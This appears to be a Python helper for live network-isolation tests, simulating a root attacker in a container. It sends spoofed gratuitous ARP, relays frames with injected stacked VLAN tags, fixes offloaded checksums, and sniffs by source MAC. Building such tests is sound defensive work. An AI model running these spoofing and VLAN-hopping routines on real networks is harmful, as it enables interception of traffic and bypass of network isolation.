"""Frames an attacker with root in a container sends (tests/live/attack_frames_test.ts).

garp IFACE IP MAC TAGS    gratuitous ARP (request and reply) for IP with MAC as sender,
                          behind the VLAN tags TAGS ("8100:0,88a8:5": TPID:VID, outer first)
relay TAGS MAC            bridges v1 (the peer of a veth v0 holding the forged address) and
                          eth0: frames from v1 leave eth0 behind TAGS, frames for MAC (or
                          broadcast) come back to v1; TCP/UDP checksums left to offload are
                          filled in, so the host's stack accepts what it strips the tags from
sniff MACS FILE           counts frames arriving on eth0 from each of MACS ("a,b") into FILE
"""
import os, select, socket, struct, sys

def tags(spec):
    out = b""
    for t in filter(None, spec.split(",")):
        tpid, vid = t.split(":")
        out += struct.pack("!HH", int(tpid, 16), int(vid))
    return out

def sock(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((iface, 0))
    return s

def csum(b):
    if len(b) % 2:
        b += b"\0"
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF

def fix(f):
    # a copy of a frame whose checksum the kernel left to offload: TCP/UDP over IPv4 recomputed
    if f[12:14] != b"\x08\x00":
        return f
    ihl = (f[14] & 15) * 4
    proto, end = f[23], 14 + struct.unpack("!H", f[16:18])[0]
    off = {6: 16, 17: 6}.get(proto)
    if off is None:
        return f
    seg = bytearray(f[14 + ihl:end])
    seg[off:off + 2] = b"\0\0"
    pseudo = f[26:34] + struct.pack("!BBH", 0, proto, len(seg))
    seg[off:off + 2] = struct.pack("!H", csum(pseudo + bytes(seg)) or 0xFFFF)
    return f[:14 + ihl] + bytes(seg) + f[end:]

cmd = sys.argv[1]
if cmd == "garp":
    iface, ip, mac, spec = sys.argv[2:6]
    s = sock(iface)
    m, a, bc = bytes.fromhex(mac.replace(":", "")), socket.inet_aton(ip), b"\xff" * 6
    for op in (1, 2):
        s.send(bc + m + tags(spec) + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + m + a + bc + a)
elif cmd == "relay":
    spec, mac = sys.argv[2], sys.argv[3]
    m, t = bytes.fromhex(mac.replace(":", "")), tags(spec)
    e, v = sock("eth0"), sock("v1")
    while True:
        for s in select.select([e, v], [], [])[0]:
            data, addr = s.recvfrom(65535)
            if addr[2] == socket.PACKET_OUTGOING:
                continue
            try:
                if s is v:
                    data = fix(data)
                    e.send(data[:12] + t + data[12:])
                elif data[:6] == m or data[0] & 1:
                    v.send(fix(data))
            except OSError as x:
                print("relay:", len(data), x, file=sys.stderr, flush=True)
elif cmd == "sniff":
    # counts the frames arriving on eth0 from each of the given source MACs, into a file
    seen = {x.lower(): 0 for x in sys.argv[2].split(",")}
    s = sock("eth0")
    while True:
        mac = s.recv(65535)[6:12].hex(":")
        if mac in seen:
            seen[mac] += 1
            with open(sys.argv[3] + ".tmp", "w") as f:
                f.write(" ".join(f"{k}={v}" for k, v in seen.items()))
            os.rename(sys.argv[3] + ".tmp", sys.argv[3])
